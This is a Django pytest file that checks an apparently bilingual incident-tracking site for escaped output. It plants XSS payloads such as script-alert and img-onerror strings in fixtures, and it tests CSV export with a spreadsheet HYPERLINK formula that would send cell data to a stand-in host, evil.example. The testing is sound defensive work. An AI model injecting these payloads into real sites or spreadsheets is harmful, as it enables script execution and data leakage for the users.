"""XSS payloads in article text, incident titles and entity names come out escaped on every page."""

import pytest
from django.urls import reverse
from django.utils import translation

from annotation.models import Entity, Mention
from incidents.models import IncidentActor, IncidentSource

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
RAW = ["<script>alert(1)", "<img src=x onerror", "onerror=alert(1)>"]


@pytest.fixture
def hostile(db, editor, reviewer, admin_user, make_article, make_incident):
    place = Entity.objects.create(
        name_ar=f"بعقوبة {IMG}",
        name_en=f"Baqubah {SCRIPT}",
        type="LOC",
        latitude=33.75,
        longitude=44.64,
        country_iso3="IRQ",
        admin1="Diyala",
    )
    actor = Entity.objects.create(name_ar=f"جماعة {SCRIPT}", name_en=f"Group {IMG}", type="ORG", actor_type="Rebel group")
    body = f"قتل مسلحون ثلاثة مدنيين {SCRIPT} في بعقوبة {IMG} يوم الخميس."
    article = make_article(body=body, title=f"عنوان {IMG}")
    start = body.index(SCRIPT)
    Mention.objects.create(article=article, start=start, end=start + len(SCRIPT), text=SCRIPT, label="ORG", entity=actor)
    incident = make_incident(
        editor,
        publish_by=reviewer,
        title_ar=f"هجوم {SCRIPT}",
        title_en=f"Attack {IMG}",
        summary_ar=f"ملخص {IMG}",
        place=place,
        place_text=f"قرب {SCRIPT}",
        admin1=f"ديالى {IMG}",  # drawn in the stats charts
        latitude=33.75,
        longitude=44.64,
    )
    IncidentActor.objects.create(incident=incident, entity=actor, role="actor1")
    IncidentSource.objects.create(incident=incident, article=article, quote=f"اقتباس {SCRIPT}")
    return {"incident": incident, "place": place, "actor": actor, "article": article}


def _assert_escaped(content, where):
    for raw in RAW:
        assert raw not in content, f"{where}: unescaped {raw!r}"


def _pages(h):
    with translation.override("ar"):
        urls = [
            reverse("incidents:list"),
            reverse("incidents:list") + "?q=%3Cscript%3E",
            h["incident"].get_absolute_url(),
            reverse("incidents:place", kwargs={"pk": h["place"].pk}),
            reverse("incidents:actor", kwargs={"pk": h["actor"].pk}),
            reverse("incidents:map"),
            reverse("incidents:stats"),
        ]
    with translation.override("en"):
        urls += [h["incident"].get_absolute_url(), reverse("incidents:list")]
    return urls


def test_public_pages_escape_payloads(client, hostile):
    checked = 0
    for url in _pages(hostile):
        response = client.get(url)
        assert response.status_code == 200, url
        _assert_escaped(response.content.decode(), url)
        checked += 1
    with translation.override("ar"):
        detail = client.get(hostile["incident"].get_absolute_url()).content.decode()
    assert "هجوم &lt;script&gt;alert(1)&lt;/script&gt;" in detail
    with translation.override("ar"):
        stats = client.get(reverse("incidents:stats")).content.decode()
    assert "ديالى &quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in stats  # the chart label, escaped
    assert checked == 9


def test_stored_incident_page_and_layout_escape_payloads(client, hostile):
    """The second view is served from the stored body and the stored header: hostile data and a hostile
    query string (it reaches the language switch's address) stay escaped there too."""
    from incidents.models import IncidentPage

    with translation.override("ar"):
        url = hostile["incident"].get_absolute_url() + "?x=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"
    first = client.get(url)
    assert IncidentPage.objects.filter(incident=hostile["incident"]).count() == 1
    second = client.get(url)
    assert first.status_code == second.status_code == 200
    for response in (first, second):
        _assert_escaped(response.content.decode(), url)
    assert "هجوم &lt;script&gt;alert(1)&lt;/script&gt;" in second.content.decode()


def test_data_addresses_do_not_carry_markup_unescaped(client, hostile):
    feed = client.get(reverse("data:feed")).content.decode()
    _assert_escaped(feed, "feed")
    api = client.get(f"/api/v1/incidents/{hostile['incident'].code}")
    assert api.status_code == 200
    assert api.json()["title_ar"] == f"هجوم {SCRIPT}"  # JSON keeps the data; it is never rendered as HTML
    assert api["Content-Type"].startswith("application/json")
    geo = client.get(reverse("data:export_geojson"))
    assert geo["Content-Type"].startswith(("application/geo+json", "application/json"))


def test_review_screen_escapes_article_text_and_entities(client, editor, hostile):
    client.force_login(editor)
    with translation.override("ar"):
        url = reverse("annotation:review", kwargs={"pk": hostile["article"].pk})
        dashboard = reverse("workflow:dashboard")
    for page in (url, dashboard):
        response = client.get(page)
        assert response.status_code == 200
        _assert_escaped(response.content.decode(), page)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in client.get(url).content.decode()


def test_admin_escapes_payloads(client, admin_user, hostile):
    client.force_login(admin_user)
    h = hostile
    pages = [
        "/ar/admin/incidents/incident/",
        f"/ar/admin/incidents/incident/{h['incident'].pk}/change/",
        f"/ar/admin/incidents/incident/{h['incident'].pk}/history/",
        "/ar/admin/annotation/entity/",
        f"/ar/admin/annotation/entity/{h['place'].pk}/change/",
        "/ar/admin/annotation/article/",
        f"/ar/admin/annotation/article/{h['article'].pk}/change/",
        "/ar/admin/annotation/mention/",
    ]
    for page in pages:
        response = client.get(page)
        assert response.status_code == 200, page
        _assert_escaped(response.content.decode(), page)


def test_no_template_turns_escaping_off():
    """Escaping is off only in reviewed Python helpers that escape every value themselves."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    templates = [p for d in [root / "templates", *root.glob("*/templates")] if d.is_dir() for p in d.rglob("*.html")]
    offenders = [
        str(p.relative_to(root))
        for p in templates
        if any(t in p.read_text(encoding="utf-8") for t in ("|safe", "autoescape off", "|safeseq"))
    ]
    assert offenders == []
    # Reviewed: each builds markup with format_html/escape from user values (review spans, chart bars,
    # the filter form's fast widgets, the public list's rows rendered in Python). The stored layout and incident
    # page are autoescaped template output kept as rendered; only their placeholders are replaced, each by an
    # escaped value (the language switch's address, the page's address and today's date).
    reviewed = {
        "annotation/templatetags/review_tags.py",
        "config/templatetags/layout.py",
        "incidents/charts.py",
        "incidents/filters.py",
        "incidents/rows.py",
        "incidents/stored_pages.py",
    }
    python = [p for app in ("annotation", "incidents", "config") for p in (root / app).rglob("*.py")]
    users = {
        str(p.relative_to(root)) for p in python if any(t in p.read_text(encoding="utf-8") for t in ("mark_safe(", "SafeString(", "|safe"))
    }
    assert users <= reviewed, f"new unescaped output to review for XSS: {sorted(users - reviewed)}"


@pytest.mark.django_db
def test_csv_export_neutralises_spreadsheet_formulas(client, editor, reviewer, make_incident):
    import csv
    import io

    from incidents.exports import spreadsheet_safe

    assert spreadsheet_safe(["=1+1", "+x", "@SUM(A1)", "-cmd", "-33.7466", "12", 5, "نص", ""]) == [
        "'=1+1", "'+x", "'@SUM(A1)", "'-cmd", "-33.7466", "12", 5, "نص", ""
    ]  # fmt: skip
    formula = '=HYPERLINK("http://evil.example/?"&A1,"اضغط")'
    make_incident(editor, publish_by=reviewer, summary_ar=formula, latitude=-33.5, longitude=44.4)
    response = client.get(reverse("data:export_csv"))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header, row = rows[0], rows[1]
    assert row[header.index("notes")] == "'" + formula
    assert row[header.index("latitude")] == "-33.5000"
